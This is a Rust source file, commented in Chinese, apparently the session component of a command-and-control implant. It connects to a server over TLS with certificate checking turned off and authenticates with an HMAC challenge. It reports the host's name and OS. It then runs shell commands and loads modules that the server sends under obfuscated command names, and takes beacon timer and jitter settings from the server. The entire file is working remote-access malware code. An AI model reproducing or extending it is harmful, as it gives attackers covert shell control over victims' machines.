// Session 模式
//
// 持久 TLS 连接上的交互式命令通道。信任不来自证书（客户端不校验
// 服务端证书），而来自随后的 HMAC-SHA512 挑战应答。
//
// 每条连接的流程：TLS 拨号（10 秒超时）→ 可选 ECDH 升级 →
// 收挑战、回 HMAC 十六进制 → 发 {Hostname, OS, ID} → 收一帧公告（忽略）
// → 命令流：一帧命令、一帧 UTF-8 响应。

use hmac::{Hmac, Mac};
use log::{debug, error, info, warn};
use serde_json::Value;
use sha2::Sha512;
use std::sync::Arc;
use std::time::Duration;
use tokio::net::TcpStream;
use uuid::Uuid;

use crate::config::SharedState;
use crate::error::{AgentError, Result};
use crate::executor::CommandExecutor;
use crate::framing::SecureConn;
use crate::modules::ModuleRegistry;
use crate::obfuscation::ObfuscationMap;

/// TLS 拨号超时
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);

/// 一次会话的结束原因
#[derive(Debug, PartialEq, Eq)]
pub enum SessionOutcome {
    /// 服务端下发 switch_beacon / beacon
    SwitchBeacon,
    /// 服务端下发 shutdown
    Shutdown,
    /// 连接正常关闭或传输层断开
    Closed,
}

/// 单条会话命令的处理结论
#[derive(Debug, PartialEq, Eq)]
enum SessionAction {
    /// 回发一帧响应
    Respond(String),
    /// 控制命令，无响应帧
    Silent,
    /// 退出会话循环
    Exit(SessionOutcome),
}

/// 会话命令处理器（与连接 IO 解耦，便于测试）
struct SessionRunner {
    state: Arc<SharedState>,
    modules: Arc<ModuleRegistry>,
    obfuscation: Arc<ObfuscationMap>,
}

impl SessionRunner {
    async fn handle_command(&self, name: &str, data: &str) -> SessionAction {
        let keys = &self.obfuscation.commands;
        match name {
            "" => {
                debug!("Ignoring empty session command");
                SessionAction::Silent
            }
            "shutdown" => {
                info!("Server requested shutdown");
                SessionAction::Exit(SessionOutcome::Shutdown)
            }
            "switch_beacon" | "beacon" => {
                info!("Server requested switch to beacon mode");
                SessionAction::Exit(SessionOutcome::SwitchBeacon)
            }
            "update" => SessionAction::Respond(self.handle_update(data).await),
            _ if !keys.shell.obfuscation_name.is_empty()
                && name == keys.shell.obfuscation_name =>
            {
                debug!("Received shell command, executing shell handler");
                SessionAction::Respond(CommandExecutor::shell_command(data).await)
            }
            _ if !keys.module.obfuscation_name.is_empty()
                && name == keys.module.obfuscation_name =>
            {
                debug!("Received module command, loading dynamic module");
                SessionAction::Respond(self.handle_module_load(data).await)
            }
            _ if self.modules.has_command(name).await => {
                debug!("Executing dynamic session command: '{}'", name);
                let args = vec![data.to_string()];
                match self.modules.execute_from_session(name, &args).await {
                    Ok(output) => SessionAction::Respond(output),
                    Err(e) => {
                        error!("Error executing {}: {}", name, e);
                        SessionAction::Respond(format!("Error executing {}: {}", name, e))
                    }
                }
            }
            _ => {
                debug!("Unknown session command: {}", name);
                SessionAction::Respond(format!("Output for command '{}'", name))
            }
        }
    }

    async fn handle_update(&self, data: &str) -> String {
        let value: Value = match serde_json::from_str(data) {
            Ok(v) => v,
            Err(e) => return format!("Error: Malformed data for 'update' command: {}", e),
        };
        let object = match value.as_object() {
            Some(o) => o,
            None => {
                return "Error: Malformed data for 'update' command: expected a JSON object"
                    .to_string()
            }
        };
        let timer = object.get("timer").and_then(Value::as_f64);
        let jitter = object.get("jitter").and_then(Value::as_f64);
        let url = object
            .get("url")
            .and_then(Value::as_str)
            .map(|s| s.to_string());
        self.state.apply_update(timer, jitter, url).await
    }

    async fn handle_module_load(&self, data: &str) -> String {
        #[derive(serde::Deserialize)]
        struct ModulePayload {
            name: String,
            data: String,
        }

        let payload: ModulePayload = match serde_json::from_str(data) {
            Ok(p) => p,
            Err(e) => {
                error!("Failed to unmarshal module data: {}", e);
                return format!("Error: Malformed data for 'module' command: {}", e);
            }
        };
        match self.modules.load_from_payload(&payload.name, &payload.data).await {
            Ok(()) => format!("Module {} loaded successfully", payload.name),
            Err(e) => format!("Error loading module {}: {}", payload.name, e),
        }
    }
}

/// 解析会话命令帧
///
/// 首选形态：单键 JSON 对象 `{"name": data}`；
/// 字符串值取其内容，其他值保留原始 JSON 文本。
/// 回退形态：空格分隔的 `name data...`。
fn parse_session_command(frame: &str) -> (String, String) {
    if let Ok(Value::Object(map)) = serde_json::from_str::<Value>(frame) {
        if map.len() == 1 {
            if let Some((name, value)) = map.into_iter().next() {
                let data = match value {
                    Value::String(s) => s,
                    Value::Null => String::new(),
                    other => other.to_string(),
                };
                return (name, data);
            }
        }
    }

    let trimmed = frame.trim();
    match trimmed.split_once(' ') {
        Some((name, rest)) => (name.to_string(), rest.to_string()),
        None => (trimmed.to_string(), String::new()),
    }
}

/// 运行一次完整会话
pub async fn run(
    state: Arc<SharedState>,
    modules: Arc<ModuleRegistry>,
    obfuscation: Arc<ObfuscationMap>,
) -> Result<SessionOutcome> {
    let hmac_key = state.hmac_key().await?;
    if hmac_key.is_empty() {
        return Err(AgentError::Config(
            "HMAC key is required. Please provide it with the --hmac-key flag.".to_string(),
        ));
    }

    let addr = state.session_addr().await?;
    info!("Session mode activated. Initiating connection and authentication.");

    // --- TLS 拨号，不校验服务端证书 ---
    let tcp = tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(&addr))
        .await
        .map_err(|_| AgentError::Connection(format!("connection to {} timed out", addr)))?
        .map_err(|e| AgentError::Connection(format!("failed to connect to {}: {}", addr, e)))?;

    let tls_builder = native_tls::TlsConnector::builder()
        .danger_accept_invalid_certs(true)
        .danger_accept_invalid_hostnames(true)
        .build()
        .map_err(|e| AgentError::Connection(format!("TLS connector: {}", e)))?;
    let connector = tokio_native_tls::TlsConnector::from(tls_builder);

    let domain = addr.split(':').next().unwrap_or(addr.as_str()).to_string();
    let tls_stream = connector
        .connect(&domain, tcp)
        .await
        .map_err(|e| AgentError::Connection(format!("TLS handshake with {} failed: {}", addr, e)))?;
    info!("Successfully connected to {}", addr);

    // --- 可选 ECDH 升级：流首部出现 magic 时为强制 ---
    let mut conn = SecureConn::new(tls_stream);
    conn.negotiate().await?;

    // --- HMAC 挑战应答 ---
    debug!("Waiting to receive challenge from server...");
    let challenge = conn.receive().await?;
    debug!("Received challenge from server ({} bytes)", challenge.len());

    let response = compute_hmac(&challenge, hmac_key.as_bytes())?;
    conn.send(response.as_bytes()).await?;
    debug!("Computed and sent HMAC response");

    // --- 客户端信息 ---
    let client_info = serde_json::json!({
        "Hostname": hostname::get()
            .map(|h| h.to_string_lossy().to_string())
            .unwrap_or_else(|_| "unknown".to_string()),
        "OS": std::env::consts::OS,
        "ID": Uuid::new_v4().to_string(),
    });
    conn.send(serde_json::to_string(&client_info)?.as_bytes()).await?;
    debug!("Client information sent");

    // 服务端公告帧，内容忽略
    let _ = conn.receive().await;

    // --- 命令流 ---
    let runner = SessionRunner {
        state,
        modules,
        obfuscation,
    };
    loop {
        let frame = match conn.receive().await {
            Ok(frame) => frame,
            Err(AgentError::Protocol(msg))
                if msg == "hmac verification failed" || msg == "decrypt" =>
            {
                // 畸形帧跳过，不中断会话
                warn!("Skipping malformed session frame: {}", msg);
                continue;
            }
            Err(e) => {
                info!("Session connection closed: {}", e);
                return Ok(SessionOutcome::Closed);
            }
        };

        if frame.is_empty() {
            debug!("Ignoring empty session frame");
            continue;
        }
        let text = String::from_utf8_lossy(&frame).to_string();
        let (name, data) = parse_session_command(&text);
        debug!("Received session command: '{}'", name);

        match runner.handle_command(&name, &data).await {
            SessionAction::Respond(output) => {
                conn.send(output.as_bytes()).await?;
                debug!("Sent response for command: {}", name);
            }
            SessionAction::Silent => {}
            SessionAction::Exit(outcome) => return Ok(outcome),
        }
    }
}

/// HMAC-SHA512 小写十六进制
fn compute_hmac(challenge: &[u8], key: &[u8]) -> Result<String> {
    let mut mac = Hmac::<Sha512>::new_from_slice(key)
        .map_err(|e| AgentError::Protocol(format!("hmac init: {}", e)))?;
    mac.update(challenge);
    Ok(hex::encode(mac.finalize().into_bytes()))
}
